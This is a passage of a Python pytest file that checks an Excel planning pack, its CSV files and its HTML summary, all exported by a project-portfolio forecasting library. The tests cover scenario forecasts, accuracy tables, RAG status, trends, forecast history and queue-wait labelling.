    base = pack.forecasts["scenarios"][0]
    assert base.scenario.pace == 1.0 and pack.forecasts["scenarios"][1].scenario.pace == 1.0
    finish = pack.forecasts["finish"].by_project()
    assert (base.projects["finish_p80"].to_numpy() == finish["p80"].reindex(base.projects.index).to_numpy()).all()
    # the file as written, not with a pace it never wrote ("pace: 1.0" had been added to its YAML); the pace used said
    # in Assumptions
    settings = pack.tables["scenario-definitions"].set_index("scenario")["settings"]
    from pmo_forecast.scenarios.spec import Scenario

    written = Scenario.from_file(SCENARIOS[0]).as_written()
    assert yaml.safe_load(settings["one-more-pm"]) == written and "pace" not in written
    assert "pace" not in settings["baseline"]
    said = pack.tables["settings"].set_index("setting")["value"]
    assert said["scenarios: pace (--pace)"] == (
        "1 x the people table's stated hours (--pace), in place of the calibrated pace (as written in a scenario "
        "file, or by default) of baseline, one-more-pm")


def test_accuracy_by_team_counts_every_finished_task(data, book):
    tasks = data[0]
    team = _block(book["Accuracy"], "By team (the person's role in the people table)")
    done = tasks[(tasks[S.STATUS] == S.DONE) & (tasks[S.ESTIMATE] > 0) & (tasks[S.ACTUAL] > 0)]
    assert team["n_tasks"].sum() == len(done)
    ratio = done[S.ACTUAL] / done[S.ESTIMATE]
    overall = float((ratio > 1).mean())
    shares = (team["share_over"] * team["n_tasks"]).sum() / team["n_tasks"].sum()
    assert shares == pytest.approx(overall, rel=1e-12)  # the teams partition the finished tasks


def test_the_accuracy_sheet_has_plain_headers_and_numbers_at_their_precision(pack, book):
    # it showed n_tasks, share_over, cal_err_0.1, pinball_0.5, vs_best_baseline ... at full float precision
    # (pinball and calibration to 2 decimals at best); the CSV files keep the column names, for machines
    ws = book["Accuracy"]
    rows = list(ws.iter_rows())
    titles = {"accuracy-team": "By team (the person's role in the people table)", "accuracy-task-type": "By task type",
              "accuracy-project-id": "By project",
              "backtest": "Backtest: fit on the earliest 70% of finished tasks, test on the rest"}
    shown = {}
    for slug, title in titles.items():
        csv_head = pd.read_csv(pack.path.parent / f"pack-{slug}.csv", encoding="utf-8-sig", nrows=0).columns.tolist()
        start = next(i for i, r in enumerate(rows) if r[0].value == title)
        head = next(i for i in range(start + 1, len(rows)) if rows[i][1].value is not None)
        header = [c.value for c in rows[head][:len(csv_head)]]
        assert header == [label(c) for c in csv_head], slug
        assert not any("_" in h for h in header), header  # no code name left
        shown.update({c: rows[head + 1][k].number_format for k, c in enumerate(csv_head)})
    assert "cal_err_0.1" in shown and "n_tasks" in shown and "share_over" in shown  # the CSVs keep the names
    assert shown["n_tasks"] == "#,##0"
    assert shown["median_ratio"] == shown["ratio_p90"] == shown["bias_factor"] == "#,##0.00"
    assert shown["share_over"] == shown["share_exact"] == "0%"
    assert shown["bias"] == shown["bias_sd"] == shown["cal_err_0.1"] == shown["max_cal_err"] == "#,##0.000"
    assert shown["pinball_0.5"] == shown["mean_pinball"] == "#,##0.0000"
    assert shown["vs_best_baseline"] == "0.0%"
    assert label("cal_err_0.8") == "Calibration error at P80" and label("pinball_0.95").startswith("Pinball loss at P95")


def test_the_accuracy_sheet_says_why_a_table_by_factor_is_not_there(tmp_path):
    # no task has a type: the model leaves the factor out and "By task type" was missing from the sheet without
    # a word there (only the Assumptions sheet listed the factor as left out)
    tasks, projects, people, requests = small_org()
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks.assign(**{S.TASK_TYPE: None}),
                                  projects=projects, people=people, n_trials=100, progress=False)
    ws = openpyxl.load_workbook(pack.path)["Accuracy"]
    assert "No table by task type: no task has a task type." in ws["A2"].value
    assert "By task type" not in {c for r in ws.iter_rows(values_only=True) for c in r}
    assert "accuracy-task-type" not in pack.tables and "accuracy-size-band" in pack.tables

def test_scenarios_baseline_is_the_projects_sheet_to_the_day(pack, book):
    """One plan behind every number (issue 12): the written pack, read back with openpyxl."""
    from pmo_forecast.forecasting.plan import at_risk

    projects = _block(book["Projects"], "Per project").set_index("project_id")
    scen = _block(book["Scenarios"], "Each scenario, then its change against the baseline").set_index("measure")
    p80 = scen.loc[scen.index.str.startswith("P80 finish "), "baseline"]
    p80.index = p80.index.str.replace("P80 finish ", "", regex=False)
    assert set(p80.index) == set(projects.index)
    for pid, d in p80.items():
        assert pd.Timestamp(d) == pd.Timestamp(projects.loc[pid, "finish_p80"]), pid
    base = pack.forecasts["scenarios"][0].projects
    for q in ("p50", "p80", "p90"):
        got = pd.to_datetime(projects[f"finish_{q}"]).reindex(base.index.astype(str))
        assert (got.to_numpy() == base[f"finish_{q}"].to_numpy()).all(), q
    np.testing.assert_allclose(projects["prob_late"].reindex(base.index.astype(str)).astype(float),
                               base["prob_late"].to_numpy(float), rtol=1e-12)
    # at risk: one count everywhere
    flags = at_risk(projects["prob_late"].astype(float), projects["prob_overrun"].astype(float))
    n = int(flags.sum())
    assert n > 0 and projects["at_risk"].eq("Yes").sum() == n
    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    assert kpis["Projects at risk (P(late) or P(over budget) >= 50%)"] == n
    # the rule in one order, the headline row's (the title had "P(over budget) or P(late)")
    assert len(_block(book["Summary"], "Projects at risk (P(late) or P(over budget) >= 50%)")) == n
    assert scen.loc["projects at risk", "baseline"] == n
    html = (pack.path.parent / "summary.html").read_text(encoding="utf-8")
    assert re.search(r"Projects at risk \(P\(late\) or P\(over budget\) &gt;= 50%\)</t[dh]>\s*<td[^>]*>"
                     rf"\s*{n}\s*<", html)


# --- the committee pack: plain headers, Excel Tables, the Trends sheet ---------------------------
CODE_NAME = re.compile(r"^[a-z0-9]+(_[a-z0-9]+)+$")  # finish_p80, prob_late, little_lambda_W ...


def _headers(ws):
    return [c.value for t in ws.tables.values() for c in ws[t.ref.split(":")[0][1:]]
            if c.value is not None and c.column <= _cols(t.ref)]


def _cols(ref):
    from openpyxl.utils import range_boundaries

    return range_boundaries(ref)[2]


def test_committee_sheets_have_plain_headers_in_excel_tables(book):
    for name in ("Summary", "Projects", "Trends", "Capacity", "Scenarios"):
        ws = book[name]
        assert ws.tables, f"{name} has no Excel Table"
        heads = _headers(ws)
        assert heads and not [h for h in heads if CODE_NAME.match(str(h))], (name, heads)
    # the queue's measures and the waits' statistics are plain words too, with units
    queue = _block(book["Capacity"], "PM-pool queue fitted from the request log (working hours)")
    assert not [m for m in queue["measure"] if CODE_NAME.match(str(m))], queue["measure"].tolist()
    assert "Arrivals per hour x mean wait (Little's law, should equal L)" in queue["measure"].tolist()
    waits = _block(book["Capacity"], "Approval waits: observed against the queue model")
    assert waits["statistic"].tolist() == ["25th percentile", "Median", "75th percentile", "90th percentile",
                                           "95th percentile", "Mean"]
    assert {"Observed (working hours)", "Queue model (working days)"} <= set(_headers(book["Capacity"]))
    assert {"Measure", "baseline", "one-more-pm", "change: one-more-pm"} <= set(_headers(book["Scenarios"]))
    proj = book["Projects"]
    table = next(iter(proj.tables.values()))
    assert table.autoFilter.ref == table.ref  # filter buttons on the header row, over the whole table
    heads = [c.value for c in proj[5]]
    assert {"Finish date, 80% sure", "Chance of being late", "Budget (hours)"} <= set(heads)


def test_whole_hours_and_percentages(book):
    ws = book["Projects"]
    header = {c.value: c.column for c in ws[5]}
    assert ws.cell(6, header["Effort at completion, 80% sure (hours)"]).number_format == "#,##0"
    # a chance strictly between 0 and 1 reads "<1%" or ">99%" near the ends, never a rounded "0%" or "100%"; an exact
    # 0 or 1 is nil or certain, in the plain "0%" (the test read row 6 only, whose chance was 0 or 1)
    cells = [ws.cell(r, header["Chance of being late"]) for r in range(6, ws.max_row + 1)]
    cells = [c for c in cells if isinstance(c.value, int | float)]
    between = [c for c in cells if 0 < c.value < 1]
    ends = [c for c in cells if c.value in (0, 1)]
    assert between and ends  # the pack has rows of each kind
    assert {c.number_format for c in between} == {'[<0.005]"<1%";[>=0.995]">99%";0%'}
    assert {c.number_format for c in ends} == {"0%"}


def test_the_packs_tables_show_their_numbers_as_the_workbook_does(pack, book):
    # notebook 06 showed pack.tables["summary"] through set_display's three significant figures: hands-on time per
    # request 1.02 hours where the Summary sheet's cell (kind num1) shows 1.0, utilisation 0.928 for its 93%
    from pmo_forecast.core.results import format_number

    table = pack.tables["summary"]
    row = {m: i for i, m in enumerate(table["measure"])}
    hands_on = row["Hands-on time per request (hours)"]
    fit = pack.forecasts["queue"]
    assert table["value"].iat[hands_on] == fit.service_hours  # the table keeps its values
    cells = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    assert cells["Hands-on time per request (hours)"] == fit.service_hours
    with pd.option_context("display.float_format", format_number):  # as pf.set_display() leaves a notebook
        shown = table._repr_html_()
        text = repr(table)
    said = f"{round_half_away(fit.service_hours, 1):,.1f}"
    assert said != format_number(fit.service_hours)  # a value the two precisions show apart
    assert f"<td>Hands-on time per request (hours)</td>\n      <td>{said}</td>" in shown
    util = f"{round_half_away(fit.queue.utilisation, 2):.0%}"
    assert f"<td>PM-pool utilisation (queue model)</td>\n      <td>{util}</td>" in shown
    assert re.search(rf"Hands-on time per request \(hours\) +{re.escape(said)}\n", text)
    # a table made from it is a plain DataFrame, its numbers as pandas shows them
    part = table.iloc[[hands_on]]
    with pd.option_context("display.float_format", format_number):
        assert type(part) is pd.DataFrame and format_number(fit.service_hours) in repr(part)


def test_trends_sheet_matches_kpi_trends_and_has_line_charts(pack, book):
    import zipfile

    sheet = _block(book["Trends"], "KPIs per quarter")
    trends = pack.forecasts["trends"]
    tr = trends.summary()
    # the quarter of the forecast date is not over: it says so (fuzz round 9)
    assert sheet["period"].tolist() == [f"{p.year}Q{p.quarter}" for p in tr.index[:-1]] + [
        f"{tr.index[-1].year}Q{tr.index[-1].quarter} (to {trends.as_of:%Y-%m-%d})"]
    notes = [c.value for row in book["Trends"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(f"The last quarter runs only to the forecast date ({trends.as_of:%Y-%m-%d})" in v for v in notes)
    for col in ("on_time_rate", "on_budget_rate", "hours_finished", "approval_wait_p90_days", "tasks_in_progress",
                "wip_age_p85_days", "tasks_stale"):
        np.testing.assert_allclose(sheet[col].astype(float), tr[col].to_numpy(float), rtol=1e-12)
    # the biases as the Summary shows one (+6%), not as mean logs (0.05); the CSV's columns renamed with the meaning
    csv = pd.read_csv(next(f for f in pack.files if f.name.endswith("-trends.csv")), encoding="utf-8-sig")
    for log in ("task_bias", "project_bias"):
        np.testing.assert_allclose(sheet[f"{log}_pct"].astype(float), np.expm1(tr[log].to_numpy(float)), rtol=1e-12)
        np.testing.assert_allclose(csv[f"{log}_pct"], np.expm1(tr[log].to_numpy(float)), rtol=1e-5)
        assert log not in sheet and log not in csv
    with zipfile.ZipFile(pack.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    trend = [c for c in charts if "Trends!" in c]
    assert len(trend) >= 4 and all("<c:lineChart>" in c for c in trend)
    assert any("Delivery and estimation accuracy" in c and 'formatCode="0%"' in c for c in trend)
    assert any("Age of work in progress against cycle time" in c for c in trend)


def test_the_observed_and_the_modelled_pm_pool_utilisation_are_named_apart(pack, book):
    # the Trends sheet's busy time from the request log and the Summary's queue model were both "PM-pool
    # utilisation" (99% and 93% on the bundled sample): a steering committee read them as conflicting
    import zipfile

    from pmo_forecast.core.labels import POOL_UTILISATION_TWO

    def texts(sheet):
        return [c.value for row in book[sheet].iter_rows() for c in row if isinstance(c.value, str)]

    trends, summary = texts("Trends"), texts("Summary")
    assert "PM-pool utilisation (observed): time with requests in service" in trends
    assert "PM-pool utilisation (queue model)" in summary
    said = [v for v in trends + summary if "PM-pool utilisation" in v]
    assert all("PM-pool utilisation (observed)" in v or "PM-pool utilisation (queue model)" in v for v in said)
    assert POOL_UTILISATION_TWO == (
        "PM-pool utilisation (observed) is the share of the pool's working hours in each period with a request in "
        "service, as the request log shows it; the Summary's PM-pool utilisation (queue model) is the queue model's "
        "long-run load over the whole log (its mean arrival rate x hands-on time, over the PMs' time for requests), "
        "so a period busier than the log's average reads higher")
    assert any(f" {POOL_UTILISATION_TWO}." in v for v in trends)  # said once, in the Trends sheet's note
    assert not any(POOL_UTILISATION_TWO in v for v in summary)
    # the Capacity sheet's queue table ("Utilisation") and the Scenarios table ("PM-pool utilisation") showed the
    # queue model's unnamed, beside the Trends sheet's observed one
    queue = _block(book["Capacity"], "PM-pool queue fitted from the request log (working hours)")["measure"].tolist()
    assert "PM-pool utilisation (queue model)" in queue and "Utilisation" not in queue
    scenarios = [v for v in texts("Scenarios") if "PM-pool utilisation" in v]
    assert scenarios and all("PM-pool utilisation (queue model)" in v for v in scenarios), scenarios
    html = (pack.path.parent / X.SUMMARY_HTML).read_text(encoding="utf-8")
    assert "PM-pool utilisation (queue model)" in html and "PM-pool utilisation<" not in html
    assert "PM-pool utilisation (queue model)" in pack.tables["scenarios"].index
    with zipfile.ZipFile(pack.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert any("Trends!" in c and "PM pool, observed in the request log" in c for c in charts)


def test_the_observed_and_the_modelled_flow_efficiency_are_named_apart_on_trends_and_capacity(pack, book):
    # the Capacity sheet's queue model and the Trends sheet's request log both headed their flow efficiency
    # "Approval flow efficiency (hands-on / elapsed)", for two different numbers: named apart now, as the two
    # utilisations are
    def texts(sheet):
        return [c.value for row in book[sheet].iter_rows() for c in row if isinstance(c.value, str)]

    queue = _block(book["Capacity"], "PM-pool queue fitted from the request log (working hours)")["measure"].tolist()
    assert "Approval flow efficiency (queue model): hands-on / elapsed" in queue
    assert "Approval flow efficiency (observed): hands-on / elapsed" in texts("Trends")
    said = [v for sheet in book.sheetnames for v in texts(sheet) if "Approval flow efficiency" in v]
    assert said and not [v for v in said if "(hands-on / elapsed)" in v], said
    # the one-page summary says neither: it stays as long as it was
    html = (pack.path.parent / X.SUMMARY_HTML).read_text(encoding="utf-8")
    assert "flow efficiency" not in html.lower()


# --- forecast history: two consecutive packs --------------------------------------------------
@pytest.mark.slow  # two packs (about a minute)
# few trials, to be quick, and the sample's open tasks without an estimate at each cut (filters read up to a ':')
@pytest.mark.filterwarnings(f"ignore:{FEW_TRIALS.split(':')[0]}:pmo_forecast.core.exceptions.SettingsWarning",
                            r"ignore:\d+ open tasks have no positive estimate:pmo_forecast.DataQualityWarning")
def test_two_consecutive_packs_show_what_changed(data, tmp_path):
    from pmo_forecast.forecasting.overrun import tasks_as_of

    tasks, projects, people, requests = data
    hist = tmp_path / "history.sqlite"
    cut = pd.Timestamp("2026-04-30")
    first = X.export_planning_pack(tmp_path / "a" / "pack.xlsx", tasks=tasks_as_of(tasks, cut), projects=projects,
                                   people=people, requests=requests, as_of=cut, n_trials=200, random_state=1,
                                   progress=False, history=hist)
    assert first.tables["what-changed"].empty  # nothing to compare with yet
    # moved data: two months on, and the open project due first has been finished and closed
    p1 = first.tables["projects"].set_index("project_id")
    done_id = p1["due"].idxmin()
    later = tasks.copy()
    sel = (later[S.PROJECT_ID] == done_id) & later[S.STATUS].isin(S.UNFINISHED_STATUSES)
    finish_at = pd.Timestamp("2026-06-26 16:00")
    later.loc[sel, S.ACTUAL] = later.loc[sel, S.ESTIMATE]
    later.loc[sel, S.STARTED] = later.loc[sel, S.STARTED].fillna(finish_at - pd.Timedelta(days=1))
    later.loc[sel, S.FINISHED] = finish_at
    later.loc[sel, S.STATUS] = S.DONE
    proj2 = projects.copy()
    proj2.loc[proj2[S.PROJECT_ID] == done_id, S.STATUS] = "closed"
    second = X.export_planning_pack(tmp_path / "b" / "pack.xlsx", tasks=later, projects=proj2, people=people,
                                    requests=requests, n_trials=200, random_state=1, progress=False, history=hist,
                                    by="business_unit")
    changed = second.tables["what-changed"].set_index("project_id")
    p2 = second.tables["projects"].set_index("project_id")
    assert set(changed.index) == set(p1.index)
    assert changed["name"].to_dict() == p1["name"].to_dict()  # names, as on every other sheet (ids only before)
    assert changed.loc[done_id, "change"] == "finished or closed since the last pack"
    for pid in p2.index:
        moved = np.busday_count(p1.loc[pid, "finish_p80"].date(), p2.loc[pid, "finish_p80"].date())
        assert changed.loc[pid, "finish_p80_moved_days"] == moved
        # the points between the percents shown, as the words count them
        assert changed.loc[pid, "prob_late_change"] == pytest.approx(
            round_half_away(p2.loc[pid, "prob_late"], 2) - round_half_away(p1.loc[pid, "prob_late"], 2))
        scope = [t.loc[(t[S.PROJECT_ID] == pid) & (t[S.STATUS] != S.CANCELLED), S.ESTIMATE].sum()
                 for t in (tasks_as_of(tasks, cut), later)]
        assert changed.loc[pid, "scope_added_hours"] == pytest.approx(scope[1] - scope[0])
        if moved:
            assert f"{abs(moved)} working day{'s' if abs(moved) != 1 else ''} {'later' if moved > 0 else 'earlier'}" \
                in changed.loc[pid, "change"]
    held = second.tables["forecasts-held"].set_index("project_id")
    assert held.loc[done_id, "forecasts"] == 1
    for q in ("p50", "p80", "p90"):
        assert held.loc[done_id, f"share_by_{q}"] == float(finish_at.normalize() <= p1.loc[done_id, f"finish_{q}"])
    trend = second.tables["milestone-trend"].set_index("as_of")
    assert len(trend) == 2 and trend.index[0] == cut
    assert trend.loc[cut].dropna().to_dict() == {p: p1.loc[p, "finish_p80"] for p in trend.columns}
    book = openpyxl.load_workbook(second.path)
    assert "What changed" in book.sheetnames
    runs = pd.read_sql_query("SELECT as_of FROM runs ORDER BY as_of", __import__("sqlite3").connect(hist))
    assert runs["as_of"].tolist() == [f"{cut:%Y-%m-%d}", f"{trend.index[-1]:%Y-%m-%d}"]

    # the key messages tell what moved since the last pack
    msgs = second.tables["key-messages"]["message"].tolist()
    assert msgs[-1].startswith(f"Since the last pack ({cut:%Y-%m-%d}):") and "1 project finished or closed" in msgs[-1]
    # the default pack names no one but the project managers: no person's bias or load by name
    staff = set(people.loc[~people[S.PERSON].isin(projects[S.MANAGER]), S.PERSON])
    cells = {str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    assert not staff & cells
    page = (second.path.parent / "summary.html").read_text(encoding="utf-8")
    assert not [n for n in staff if __import__("html").escape(n) in page]
    assert "By person" not in book["Accuracy"]["A4"].value
    # the roll-up by business unit: the organisation row is the portfolio, from summed trials
    roll = second.tables["rollup-business-unit"]
    port = second.forecasts["overrun"].portfolio().iloc[0]
    assert roll.loc["all", "effort_p80_hours"] == pytest.approx(port["p80"], rel=1e-12)
    assert roll.drop(index="all")["projects"].sum() == len(second.forecasts["overrun"].project_ids)
    assert "By business unit" in book.sheetnames
    # finish dates by unit: the latest project's finish in each trial, and the chance any project is late
    fin = second.forecasts["finish"]
    unit = projects.set_index(S.PROJECT_ID)[S.BUSINESS_UNIT].reindex(fin.project_ids).fillna("(none)").to_numpy()
    for bu in roll.index.drop("all"):
        last = fin.samples[:, unit == bu].max(axis=1)
        p80 = fin.calendar.dates(fin.origin, [np.quantile(last, 0.8, method="inverted_cdf")])[0]
        assert roll.loc[bu, "finish_p80"] == p80
        assert roll.loc[bu, "finish_p80"] >= p2.loc[p2.index.isin(fin.project_ids[unit == bu]), "finish_p80"].max()
    headers = _headers(book["By business unit"])
    assert "Finish date, 80% sure" in headers and "Chance any of its projects is late" in headers
    status = pd.read_sql_query("SELECT status FROM project_forecasts", __import__("sqlite3").connect(hist))
    assert status["status"].notna().all()  # the project's own status was never recorded

    # a pack for an earlier date: the later runs are left out of its trend, and said (it claimed a first run
    # while charting later forecasts)
    early = pd.Timestamp("2026-03-31")
    with pytest.warns(DataQualityWarning, match=re.escape(
            "forecast history: the history file history.sqlite holds 2 runs for later forecast dates (latest "
            f"{trend.index[-1]:%Y-%m-%d}) than this pack's 2026-03-31: they are left out of what changed")):
        third = X.export_planning_pack(tmp_path / "c" / "pack.xlsx", tasks=tasks_as_of(tasks, early),
                                       projects=projects, people=people, as_of=early, n_trials=100, random_state=1,
                                       progress=False, history=hist)
    assert third.tables["milestone-trend"]["as_of"].tolist() == [early]
    said = third.tables["committee-settings"].set_index("setting").loc["check: forecast history", "value"]
    assert said == (f"the history file history.sqlite holds 2 runs for later forecast dates (latest "
                    f"{trend.index[-1]:%Y-%m-%d}) than this pack's 2026-03-31: they are left out of what changed "
                    "and the milestone trend")
    # fuzz round 21: its What changed said "this is the first run; the next pack will show what changed"
    changed = [c.value for c in openpyxl.load_workbook(third.path)["What changed"]["A"]][3:5]
    assert changed == ["Since the last pack", "No run in the history file history.sqlite before this forecast date "
                       "(2026-03-31): nothing to compare with; its 2 later runs are left out."]


def test_rag_and_key_messages_on_the_summary(pack, book):
    from pmo_forecast.reporting.committee import key_messages, rag_status

    projects = pack.tables["projects"]
    np.testing.assert_array_equal(projects["rag"], rag_status(projects)["rag"])
    sheet = _block(book["Projects"], "Per project")
    assert sheet["rag"].tolist() == projects["rag"].tolist()
    assert set(sheet["rag"]) <= {"red", "amber", "green"}
    msgs = _block(book["Summary"], "Key messages")["message"].tolist()
    # scenarios=True: the pack has a Scenarios table, so the PM pool's message says its waits are another method's
    assert msgs == key_messages(projects, overrun=pack.forecasts["overrun"], queue=pack.forecasts["queue"],
                                trends=pack.forecasts["trends"], validation=pack.forecasts["validation"],
                                scenarios="comparison" in pack.forecasts)
    assert book["Summary"]["A4"].value == "Key messages"  # at the top
    settings = _block(book["Assumptions"], "Committee pack settings").set_index("setting")["value"]
    # the rows said "chance late" and "chance overrun": the Projects sheet's words for its two chances
    assert settings["status red when the chance of being late >= (amber from)"] == "50% (20%)"
    assert settings["status red when the chance of going over budget >= (amber from)"] == "50% (20%)"
    assert not any("overrun" in s for s in settings.index)
    page = (pack.path.parent / "summary.html").read_text(encoding="utf-8")
    assert '<ul class="messages">' in page and '<td class="rag red">red</td>' in page
    assert "Chance of being late" in page and "prob_late" not in page


def test_rag_thresholds_can_be_set(data, tmp_path, monkeypatch):
    from pmo_forecast.reporting.committee import rag_status

    projects = pd.DataFrame({"prob_late": [0.45, 0.1], "prob_overrun": [0.0, 0.0]})
    ctx_opts = X.committee_options(rag=["late=0.4,0.05"])
    assert ctx_opts["rag"]["late"] == (0.4, 0.05)
    assert rag_status(projects, ctx_opts["rag"])["rag"].tolist() == ["red", "amber"]
    with pytest.raises(ValueError, match="people_detail must be one of none, team, named"):
        X.committee_options(people_detail="everyone")


@pytest.mark.parametrize("given, got", [("everyone", "'everyone'"), (["team"], "a list ('team')"),
                                        (np.array(["team", "named"]), "a list ('team', 'named')"),
                                        ({"detail": "team"}, "a mapping ('detail': 'team')"),
                                        # as the currency option says them: it had been "got None", "got 2"
                                        (None, "nothing"), (2, "the number 2")])
def test_people_detail_refused_says_what_it_was_given_in_words(given, got):
    # it said Python's repr ("got ['team']", "got array(['team', 'named'], dtype='<U5')", or an array's ambiguous
    # truth value), where the pack's other options say what they were given in words
    with pytest.raises(ValueError) as e:
        X.committee_options(people_detail=given)
    assert str(e.value) == f"people_detail must be one of none, team, named, got {got}"


CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless Chromium absent (apt-get install chromium)")
def test_summary_html_fits_one_a4_page_in_chromium(pack, tmp_path):
    pytest.importorskip("playwright")
    from playwright.sync_api import sync_playwright

    # A4 landscape, 8 mm margins (the page's @page rule): 281 x 194 mm = 1062 x 733 CSS px
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True,
                                    args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
        try:
            page = browser.new_page(viewport={"width": 1062, "height": 733})
            page.goto((pack.path.parent / "summary.html").resolve().as_uri())
            page.emulate_media(media="print")
            height = page.evaluate("document.body.getBoundingClientRect().bottom")
            page.screenshot(path=str(tmp_path / "summary.png"), full_page=True)
            pdf = page.pdf(prefer_css_page_size=True)
        finally:
            browser.close()
    assert (tmp_path / "summary.png").stat().st_size > 10_000
    # with a margin: it sat at 732 px, so any longer label or message took it to a second page
    assert height <= 733 - 40, f"summary.html is {height:.0f} px tall; one A4 page holds 733, less a 40 px margin"
    assert len(re.findall(rb"/Type\s*/Page[^s]", pdf)) == 1


def test_headline_tells_the_projects_story_next_to_the_median_task(pack, book):
    kpis = _block(book["Summary"], "Headline numbers").set_index("measure")["value"]
    tr = pack.forecasts["trends"]
    r = tr.recent()
    window = f"in the 12 months to {tr.as_of:%Y-%m-%d}"
    done = tr.projects_[tr.projects_["completed"] & (tr.projects_["finished"] >= r["since"])]
    n = len(done)
    assert n == r["projects_completed"] > 0 and done["budget_hours"].notna().all()
    over = kpis[f"Projects completed {window} ({n}): over budget"]
    assert over == pytest.approx(done["over_budget"].astype(float).mean())
    # the label says which tasks count (fuzz round 21: "Tasks finished ... (4,104)" where 4,120 had finished)
    t = tr.tasks_[tr.tasks_["finished"] >= r["since"]]
    n_tasks = int(t["log_ratio"].notna().sum())
    assert n_tasks == r["tasks"] < len(t)
    typical = kpis[f"Task bias (+ over, - under estimate) {window} ({n_tasks:,} finished with both)"]
    assert typical == pytest.approx(np.expm1(t["log_ratio"].mean()))


def test_a_working_calendar_object_is_a_calendar_of_the_pack(tmp_path):
    # export_planning_pack(calendar=) takes a WorkingCalendar as the forecasts do; the Assumptions sheet's
    # len(calendar) raised TypeError on one (only a list of dates worked)
    from pmo_forecast.core.calendar import WorkingCalendar

    tasks, projects, people, requests = small_org()
    cal = WorkingCalendar(("2026-12-24", "2026-12-25", "2026-12-31"), "1111110")
    res = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                 n_trials=50, random_state=0, progress=False, calendar=cal)
    rows = {r[0].value: r[1].value for r in openpyxl.load_workbook(res.path)["Assumptions"].iter_rows() if r[0].value}
    assert rows["finish dates: public holidays"] == "3 dates"
    assert rows["finish dates: working days"] == "1111110"
    # the PM pool's waits are measured in the pack's working hours too (left alone at stop 36: Monday to Friday
    # without the holidays, whatever the calendar); the log's first month off shortens them
    from pmo_forecast import fit_pool_queue
    from pmo_forecast.core.as_of import infer_as_of

    off = WorkingCalendar(tuple(pd.date_range(requests[S.REQUESTED].min(), periods=20, freq="B")), "1111110")
    res = X.export_planning_pack(tmp_path / "pack2.xlsx", tasks=tasks, projects=projects, people=people,
                                 requests=requests, n_trials=50, random_state=0, progress=False, calendar=off)
    as_of = infer_as_of(tasks)
    fit = fit_pool_queue(requests, people, as_of=as_of, holidays=list(off.holidays), weekmask="1111110")
    assert np.array_equal(res.forecasts["queue"].observed_waits, fit.observed_waits)
    assert not np.array_equal(fit.observed_waits, fit_pool_queue(requests, people, as_of=as_of).observed_waits)


def test_an_unbounded_approval_wait_is_said_in_words_not_inf(tmp_path):
    # a scenario whose PM pool has more approval work than hours: the queue model's wait is inf, and the
    # Scenarios sheet, its CSV file and summary.html showed the text "inf" (and "inf" as its change)
    from pmo_forecast.core.labels import UNBOUNDED_WAIT
    from pmo_forecast.scenarios.spec import Scenario

    tasks, projects, people, requests = small_org()
    overloaded = Scenario(name="pms elsewhere", availability=[{"role": S.PM_ROLE, "availability": 0.01}])
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=[overloaded], n_trials=200, random_state=0,
                                  progress=False, history=False)
    table = _block(openpyxl.load_workbook(pack.path)["Scenarios"], "Each scenario, then its change against the "
                   "baseline").set_index("measure")
    csv_table = pd.read_csv(tmp_path / "pack-scenarios.csv", encoding="utf-8-sig").set_index("measure")
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    for wait in ("approval wait P50 (working days, queue model)", "approval wait P90 (working days, queue model)"):
        assert table.at[wait, "pms elsewhere"] == table.at[wait, "change: pms elsewhere"] == UNBOUNDED_WAIT
        assert csv_table.at[wait, "pms elsewhere"] == UNBOUNDED_WAIT
        assert f'<td class="wrap">{wait}</td><td class="num">' in page
        assert f"<td>{UNBOUNDED_WAIT}</td>" in page
    assert ">inf<" not in page and "inf" not in csv_table.to_numpy().astype(str)
    # its cause said, for the scenario whose pool it is (a gap without a PM is said otherwise)
    note = next(c.value for r in openpyxl.load_workbook(pack.path)["Scenarios"].iter_rows() for c in r
                if isinstance(c.value, str) and c.value.startswith("Changes: waits in working days"))
    assert (f" A wait {UNBOUNDED_WAIT} (pms elsewhere): the PM pool has more approval work than hours in some week "
            "a PM serves it, so the queue has no steady wait.") in note


def test_a_wait_unbounded_in_the_baseline_and_a_scenario_is_said_so_not_a_change_of_0(tmp_path):
    # six of the eight PMs leaving on 15 September per the people table leave two for a pool at 35% with eight:
    # the baseline's pool is over capacity from the 16th (waits inf), and so is a scenario's that changes nothing
    # or gives the PMs' time elsewhere: their change in wait showed 0 ("the same wait") beside inf and inf
    from pmo_forecast.core.labels import BOUNDED_AGAIN, UNBOUNDED_BOTH, UNBOUNDED_WAIT
    from pmo_forecast.scenarios.spec import Hire, Scenario

    tasks, projects, people, requests = small_org()
    pms = people.index[people[S.ROLE] == S.PM_ROLE]
    people = people.copy()
    people.loc[pms[2:], S.END] = pd.Timestamp("2026-09-15")
    scenarios = [Scenario(name="same", description="nothing changed"),
                 Scenario(name="pms elsewhere", availability=[{"role": S.PM_ROLE, "availability": 0.5}]),
                 Scenario(name="one more pm", hires=(Hire("New PM", S.PM_ROLE, "2026-07-01"),))]
    pack = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
                                  requests=requests, scenarios=scenarios, n_trials=200, random_state=0,
                                  progress=False, history=False)
    comparison = pack.forecasts["comparison"]
    waits = ["approval wait P50 (working days)", "approval wait P90 (working days)"]
    assert (comparison.values().loc[waits, ["baseline", "same", "pms elsewhere"]] == np.inf).all().all()
    assert np.isfinite(comparison.values().loc[waits, "one more pm"].astype(float)).all()  # three PMs: 94%
    summary = comparison.summary()
    assert (summary.loc[waits, ["change: same", "change: pms elsewhere"]] == UNBOUNDED_BOTH).all().all()
